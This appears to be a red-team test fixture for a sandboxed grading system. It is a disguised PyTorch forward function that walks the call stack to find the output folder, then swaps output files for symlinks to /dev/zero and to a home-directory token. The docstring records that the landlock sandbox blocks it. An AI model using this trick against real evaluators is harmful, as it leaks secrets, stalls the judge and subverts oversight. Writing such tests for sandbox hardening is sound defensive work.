"""Attack: puts a link to a secret in the place of one output, and one to an endless device in that of another.
Wall: landlock: a session leaves plain files only; the judge opens nothing else, and never waits for one
Outcome: channel error
"""

import sys
from contextlib import suppress
from pathlib import Path

import torch


def folder() -> Path | None:
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(getattr(request, "folder", None), Path):
            return request.folder
        frame = frame.f_back
    return None


def forward(x: torch.Tensor) -> torch.Tensor:
    place = folder()
    for file in sorted(place.glob("*.bin")) if place else []:
        with suppress(OSError):
            file.unlink()
            file.symlink_to("/dev/zero" if file.name == "0.bin" else "@HOME@/token")
    return x * 2
